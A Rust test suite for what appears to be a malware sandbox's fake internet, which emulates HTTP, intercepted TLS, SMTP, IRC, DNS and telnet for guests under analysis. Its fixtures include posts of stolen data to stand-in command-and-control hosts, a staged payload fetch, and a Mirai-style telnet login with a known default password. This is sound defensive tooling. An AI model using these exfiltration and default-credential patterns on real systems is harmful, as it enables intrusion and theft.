//! What is spoken over connections: HTTP, TLS, mail, IRC, names. Wireshark judges what it looks like from outside.

use std::io::{Read, Write};
use std::net::Ipv4Addr;
use std::sync::Arc;

use lava_event::{GuestText, Kind, Sha256};
use rustls::pki_types::pem::PemObject;
use rustls::pki_types::{CertificateDer, ServerName};
use rustls::{ClientConfig, ClientConnection, RootCertStore};
use smoltcp::iface::SocketHandle;

use super::guest::{Guest, simulated};
use super::wire::judge;
use super::{WORLD, emit};
use crate::authority::Authority;
use crate::capture::Capture;
use crate::content::Content;
use crate::peer::Peer;
use crate::world::World;

/// Method, host, path, status, bytes of the request's body, whether it came whole, where the answer came from.
type Asked = (String, String, String, u16, u64, bool, String);

fn asked(guest: &Guest) -> Vec<Asked> {
    let text = |text: &GuestText| String::from_utf8_lossy(text.bytes()).into_owned();
    let of = |kind: &Kind| match kind {
        Kind::NetHttp { method, host, path, status, request_bytes, request_complete, answer, .. } => {
            Some((text(method), text(host), text(path), *status, *request_bytes, *request_complete, answer.clone()))
        }
        _ => None,
    };
    guest.told.iter().filter_map(of).collect()
}

fn request(method: &str, host: &str, path: &str, status: u16, bytes: u64, whole: bool, answer: &str) -> Asked {
    (method.into(), host.into(), path.into(), status, bytes, whole, answer.into())
}

/// One connection that says all this, byte by byte if `slow`.
fn check(said: &[u8], slow: bool, expected: &[Asked]) -> Vec<u8> {
    let mut guest = simulated();
    let socket = guest.connect(WORLD, 8080, 40_000);
    guest.settle();
    let mut heard = Vec::new();
    for piece in said.chunks(if slow { 1 } else { said.len() }) {
        heard.extend(guest.say(socket, piece));
    }
    guest.end();
    assert_eq!(asked(&guest), expected, "{}", String::from_utf8_lossy(said));
    heard
}

#[test]
fn requests_are_understood_however_they_come() {
    let curl = "GET /a/b.sh?x=1 HTTP/1.1\r\nHost: evil.example:8080\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n\r\n";
    for slow in [false, true] {
        let heard =
            check(curl.as_bytes(), slow, &[request("GET", "evil.example", "/a/b.sh?x=1", 200, 0, true, "default")]);
        let heard = String::from_utf8(heard).unwrap();
        assert!(heard.starts_with("HTTP/1.1 200 OK\r\n") && heard.ends_with("\r\n\r\n#!/bin/sh\nexit 0\n"), "{heard}");
        assert!(heard.contains("\r\nContent-Length: 17\r\n"));

        let post = "POST /gate.php HTTP/1.1\r\nHost: c2\r\nContent-Length: 5\r\n\r\nstoleGET / HTTP/1.0\r\n\r\n";
        let expected = [
            request("POST", "c2", "/gate.php", 200, 5, true, "default"),
            request("GET", "192.0.2.7", "/", 200, 0, true, "default"),
        ];
        check(post.as_bytes(), slow, &expected);

        let chunks = "POST http://c2:80/up HTTP/1.1\r\nTransfer-Encoding: chunked\r\nExpect: 100-continue\r\n\r\n\
                      3;x=y\r\nabc\r\n2\r\nde\r\n0\r\nTrailer: t\r\n\r\n";
        let heard = check(chunks.as_bytes(), slow, &[request("POST", "c2", "/up", 200, 5, true, "default")]);
        assert!(heard.starts_with(b"HTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 200 OK\r\n"));

        let torn = "POST / HTTP/1.1\r\nHost: c2\r\nContent-Length: 99\r\n\r\nabc";
        check(torn.as_bytes(), slow, &[request("POST", "c2", "/", 0, 3, false, "none")]);
        check(b"GET /x HTTP/1.1\r\nHost", slow, &[request("GET", "192.0.2.7", "/x", 0, 0, false, "none")]);
        check(
            b"GET / HTTP/1.1\r\nContent-Length: -1\r\n\r\n",
            slow,
            &[request("GET", "192.0.2.7", "/", 400, 0, false, "default")],
        );
        let wrong = b"PUT / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n";
        check(wrong, slow, &[request("PUT", "192.0.2.7", "/", 400, 0, false, "default")]);
        assert_eq!(
            check(b"HEAD / HTTP/1.0\r\n\r\n", slow, &[request("HEAD", "192.0.2.7", "/", 200, 0, true, "default")])
                [..12],
            *b"HTTP/1.1 200"
        );
        check(b"GARBAGE that is no request at all\r\n", slow, &[]);
    }
}

/// A guest in a world with an authority, and how to trust that.
fn with_tls(content: Content) -> (Guest, RootCertStore) {
    signed_by(content, Authority::new().unwrap())
}

fn signed_by(content: Content, authority: Authority) -> (Guest, RootCertStore) {
    let mut trusted = RootCertStore::empty();
    trusted.add(CertificateDer::from_pem_slice(authority.pem().as_bytes()).unwrap()).unwrap();
    (Guest::new(Peer::new(None, Some(World::new(content, authority)), 7)), trusted)
}

/// The guest of a session that goes on trusts the certificate that it was given in the first one.
#[test]
fn an_authority_is_trusted_after_it_was_restored() {
    let first = Authority::new().unwrap();
    let mut trusted = RootCertStore::empty();
    trusted.add(CertificateDer::from_pem_slice(first.pem().as_bytes()).unwrap()).unwrap();
    let (mut guest, _) = signed_by(Content::default(), Authority::restored(first.secret()).unwrap());
    let mut tls = client(trusted.clone(), &rustls::version::TLS13, "example.org");
    let socket = guest.connect(WORLD, 443, 40_000);
    guest.settle();
    let answer = through(&mut guest, socket, &mut tls, b"GET / HTTP/1.1\r\nHost: example.org\r\n\r\n").unwrap();
    assert!(answer.starts_with(b"HTTP/1.1 200"), "{}", String::from_utf8_lossy(&answer));

    let (mut guest, _) = signed_by(Content::default(), Authority::new().unwrap());
    let mut tls = client(trusted, &rustls::version::TLS13, "example.org");
    let socket = guest.connect(WORLD, 443, 40_000);
    guest.settle();
    through(&mut guest, socket, &mut tls, b"GET / HTTP/1.1\r\n\r\n").unwrap_err();
    assert!(Authority::restored("no key").is_err());
}

fn client(
    trusted: RootCertStore,
    version: &'static rustls::SupportedProtocolVersion,
    name: &'static str,
) -> ClientConnection {
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let config = ClientConfig::builder_with_provider(provider).with_protocol_versions(&[version]).unwrap();
    let mut config = config.with_root_certificates(trusted).with_no_client_auth();
    config.alpn_protocols = vec![b"h2".to_vec(), b"http/1.1".to_vec()];
    ClientConnection::new(Arc::new(config), ServerName::try_from(name).unwrap()).unwrap()
}

/// Says something through TLS and hears the answer; the error that ended it.
fn through(
    guest: &mut Guest,
    socket: SocketHandle,
    tls: &mut ClientConnection,
    said: &[u8],
) -> Result<Vec<u8>, rustls::Error> {
    tls.writer().write_all(said).unwrap();
    let mut heard = Vec::new();
    loop {
        let mut out = Vec::new();
        while tls.wants_write() {
            tls.write_tls(&mut out).unwrap();
        }
        let came = guest.say(socket, &out);
        if out.is_empty() && came.is_empty() {
            return Ok(heard);
        }
        let mut rest = came.as_slice();
        while !rest.is_empty() {
            tls.read_tls(&mut rest).unwrap();
            let failed = tls.process_new_packets().err();
            let _ = tls.reader().read_to_end(&mut heard); // Ends with "would block", or at the end.
            if let Some(error) = failed {
                let mut alert = Vec::new();
                tls.write_tls(&mut alert).unwrap();
                guest.say(socket, &alert);
                return Err(error);
            }
        }
    }
}

fn begun(guest: &Guest) -> Vec<(Option<GuestText>, String, String)> {
    let of = |kind: &Kind| match kind {
        Kind::NetTls { server_name, version, outcome, ja3, ja4, .. } => {
            let whole = ja3.len() == 32 && ja4.starts_with("t1");
            assert!(whole || outcome.contains("hello"), "{ja3} {ja4}");
            Some((server_name.clone(), version.clone(), outcome.clone()))
        }
        _ => None,
    };
    guest.told.iter().filter_map(of).collect()
}

#[test]
fn wireshark_reads_http_decrypts_tls_and_finds_nothing_wrong() {
    let folder = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(folder.path().join("web/evil.example")).unwrap();
    std::fs::write(folder.path().join("web/evil.example/stage2"), vec![b'z'; 100_000]).unwrap();
    let content = Content::load(&folder.path().join("web")).unwrap();
    let (mut guest, trusted) = with_tls(content);
    let path = folder.path().join("traffic.pcapng");
    guest.capture = Some(Capture::create(&path, 0).unwrap());

    let socket = guest.connect(WORLD, 80, 40_000);
    guest.settle();
    let heard = guest.say(socket, b"GET /stage2 HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n");
    assert!(heard.ends_with(&[b'z'; 100_000]));
    guest.socket(socket).close();
    guest.settle();

    for (number, version) in [&rustls::version::TLS13, &rustls::version::TLS12].into_iter().enumerate() {
        let socket = guest.connect(WORLD, 8443, 40_001 + u16::try_from(number).unwrap());
        guest.settle();
        let mut tls = client(trusted.clone(), version, "evil.example");
        let heard = through(
            &mut guest,
            socket,
            &mut tls,
            b"POST /gate HTTP/1.1\r\nHost: evil.example\r\nContent-Length: 6\r\n\r\nsecret",
        )
        .unwrap();
        assert!(heard.starts_with(b"HTTP/1.1 200 OK\r\n"));
        assert_eq!(tls.alpn_protocol(), Some(b"http/1.1".as_slice()));
        let heard =
            through(&mut guest, socket, &mut tls, b"GET /stage2 HTTP/1.1\r\nHost: evil.example\r\n\r\n").unwrap();
        assert!(heard.ends_with(&[b'z'; 100_000]));
        tls.send_close_notify();
        through(&mut guest, socket, &mut tls, b"").unwrap();
        guest.socket(socket).close();
        guest.settle();
    }
    let mail = guest.connect(WORLD, 25, 40_003);
    guest.settle();
    let lines: [&[u8]; 6] = [
        b"EHLO x\r\n",
        b"MAIL FROM:<a@b>\r\n",
        b"RCPT TO:<c@d>\r\n",
        b"DATA\r\n",
        b"Subject: s\r\n\r\nbody\r\n.\r\n",
        b"QUIT\r\n",
    ];
    for line in lines {
        guest.say(mail, line);
    }
    guest.socket(mail).close();
    guest.settle();
    guest.end();
    guest.capture.take().unwrap().finish().unwrap();

    let name = Some("evil.example".into());
    let established = |version: &str| (name.clone(), version.to_owned(), "established".to_owned());
    assert_eq!(begun(&guest), [established("TLSv1.3"), established("TLSv1.2")]);
    let posts = asked(&guest).into_iter().filter(|asked| asked.0 == "POST").count();
    assert_eq!((asked(&guest).len(), posts), (5, 2));
    let secret = Sha256::of(b"secret");
    assert!(guest.artifacts.iter().any(|artifact| artifact.sha256 == secret && &artifact.bytes[..] == b"secret"));
    let streams: Vec<String> = guest.streams().into_iter().map(|stream| format!("{} {}", stream.0, stream.3)).collect();
    assert_eq!(streams, ["http network", "http network", "http network", "smtp network"]);

    let checks = ["-o", "ip.check_checksum:TRUE", "-o", "tcp.check_checksum:TRUE"];
    let bad = "_ws.malformed || _ws.expert.severity == error || ip.checksum.status == 0 || tcp.checksum.status == 0 \
               || tcp.analysis.retransmission || tcp.analysis.lost_segment";
    assert_eq!(judge("tshark", &[&checks[..], &["-Y", bad, "-r"]].concat(), &path), "");
    let fields = ["-T", "fields", "-e", "http.request.method", "-e", "http.request.uri", "-e", "tcp.srcport"];
    let seen =
        judge("tshark", &[&["-d", "tcp.port==8443,tls"], &fields[..], &["-Y", "http.request", "-r"]].concat(), &path);
    let expected =
        "GET\t/stage2\t40000\nPOST\t/gate\t40001\nGET\t/stage2\t40001\nPOST\t/gate\t40002\nGET\t/stage2\t40002\n";
    assert_eq!(seen, expected);
    let fields = ["-T", "fields", "-e", "tls.handshake.ja3", "-Y", "tls.handshake.type == 1", "-r"];
    let ja3: Vec<String> = guest
        .told
        .iter()
        .filter_map(|kind| match kind {
            Kind::NetTls { ja3, .. } => Some(ja3.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(
        judge("tshark", &[&["-d", "tcp.port==8443,tls"], &fields[..]].concat(), &path).lines().collect::<Vec<_>>(),
        ja3
    );
    let mails = judge(
        "tshark",
        &["-T", "fields", "-e", "smtp.req.parameter", "-Y", "smtp.req.command == \"RCPT\"", "-r"],
        &path,
    );
    assert!(mails.contains("TO:<c@d>"), "{mails}");
}

#[test]
fn a_guest_that_does_not_trust_us_is_told_of() {
    let (mut guest, _) = with_tls(Content::default());
    let (_, others) = with_tls(Content::default());
    let socket = guest.connect(WORLD, 443, 40_000);
    guest.settle();
    let mut tls = client(others, &rustls::version::TLS13, "bank.example");
    through(&mut guest, socket, &mut tls, b"GET / HTTP/1.1\r\n\r\n").unwrap_err();
    let begun = begun(&guest);
    assert!(begun.len() == 1 && begun[0].2.contains("alert"), "{begun:?}");
    assert!(asked(&guest).is_empty());
}

#[test]
fn tls_without_a_name_is_for_the_address_and_what_is_no_tls_fails() {
    let (mut guest, trusted) = with_tls(Content::default());
    let socket = guest.connect(WORLD, 4443, 40_000);
    guest.settle();
    let mut tls = client(trusted, &rustls::version::TLS13, "192.0.2.7");
    through(&mut guest, socket, &mut tls, b"hello, this is no HTTP").unwrap();
    guest.socket(socket).abort();
    guest.settle();
    assert_eq!(begun(&guest), [(None, "TLSv1.3".to_owned(), "established".to_owned())]);
    assert_eq!(&guest.artifacts.last().unwrap().bytes[..], b"hello, this is no HTTP");

    let socket = guest.connect(WORLD, 4443, 40_001);
    guest.settle();
    guest.say(socket, &[&[22, 3, 1, 0, 5, 1, 0, 0, 1, 0][..], &[0; 64]].concat());
    assert!(begun(&guest)[1].2.contains("hello"), "{:?}", begun(&guest));
}

#[test]
fn mail_is_taken_with_its_envelope() {
    let mut guest = simulated();
    let socket = guest.connect(WORLD, 587, 40_000);
    guest.settle();
    assert!(guest.say(socket, b"").starts_with(b"220 "));
    let heard = guest.say(socket, b"EHLO bot\r\nAUTH LOGIN\r\ndXNlcg==\r\ncGFzcw==\r\nMAIL FROM:<spam@evil.example> SIZE=9\r\nRCPT TO:<a@b.c>\r\nRCPT TO: d@e.f\r\nDATA\r\n");
    let heard = String::from_utf8(heard).unwrap();
    let codes: Vec<&str> = heard.lines().map(|line| &line[..4]).collect();
    assert_eq!(codes, ["250-", "250-", "250 ", "334 ", "334 ", "235 ", "250 ", "250 ", "250 ", "354 "]);
    guest.say(socket, b"From: x\r\nsubject: Hello\r\n\r\nSubject: not this\r\n..dot\r\n.\r\nQUIT\r\n");
    let told = guest.told.iter().find(|kind| matches!(kind, Kind::NetMail { .. })).unwrap();
    let Kind::NetMail { from, to, receivers: 2, subject: Some(subject), complete: true, .. } = told else {
        panic!("{told:?}")
    };
    assert_eq!(
        (from, &to[..], subject),
        (&"spam@evil.example".into(), &["a@b.c".into(), "d@e.f".into()][..], &"Hello".into())
    );
    let mail = b"From: x\r\nsubject: Hello\r\n\r\nSubject: not this\r\n.dot\r\n";
    assert!(guest.artifacts.iter().any(|artifact| &artifact.bytes[..] == mail));
}

#[test]
fn a_bot_is_welcome_and_names_are_told_over_tcp() {
    let mut guest = simulated();
    let socket = guest.connect(WORLD, 6667, 40_000);
    guest.settle();
    let heard = guest.say(socket, b"NICK bot\r\nUSER a b c :d\r\nJOIN #owned\r\nPING :1\r\n");
    let heard = String::from_utf8(heard).unwrap();
    for needle in [" 001 bot ", " 366 bot #owned ", " PONG "] {
        assert!(heard.contains(needle), "{needle}: {heard}");
    }
    let query = super::query()[emit::ETHERNET + 28..].to_vec();
    let socket = guest.connect(WORLD, 53, 40_001);
    guest.settle();
    let length = u16::try_from(query.len()).unwrap();
    let heard = guest.say(socket, &[&length.to_be_bytes()[..], &query].concat());
    assert_eq!(usize::from(u16::from_be_bytes([heard[0], heard[1]])), heard.len() - 2);
    assert!(heard.ends_with(&[198, 18, 0, 1]));
    assert!(
        guest
            .told
            .iter()
            .any(|kind| matches!(kind, Kind::NetDns { question, .. } if *question == "evil.example".into()))
    );
}

#[test]
fn a_worm_gets_in_by_telnet_and_what_it_types_is_kept() {
    let mut guest = simulated();
    let socket = guest.connect(Ipv4Addr::new(10, 77, 0, 30), 23, 40_000);
    guest.settle();
    let mut heard = Vec::new();
    // "DO echo" with a name, lines that end in CR NUL, CR LF and LF.
    for said in [&b"\xff\xfd\x01root\r\0"[..], b"xc3511\r\n", b"enable\n/bin/busybox MIRAI\r\n", b"exit\r\n"] {
        heard.extend(guest.say(socket, said));
    }
    let heard = String::from_utf8(heard).unwrap();
    assert_eq!(heard, "login: Password: \r\n# # MIRAI: applet not found\r\n# ");
    guest.socket(socket).close();
    guest.settle();
    guest.end();
    let streams = guest.streams();
    assert!(matches!(&streams[..], [(application, ..)] if application == "telnet"), "{streams:?}");
    let typed = b"\xff\xfd\x01root\r\0xc3511\r\nenable\n/bin/busybox MIRAI\r\nexit\r\n";
    assert!(guest.artifacts.iter().any(|artifact| artifact.bytes[..] == typed[..]), "as it was sent");
}
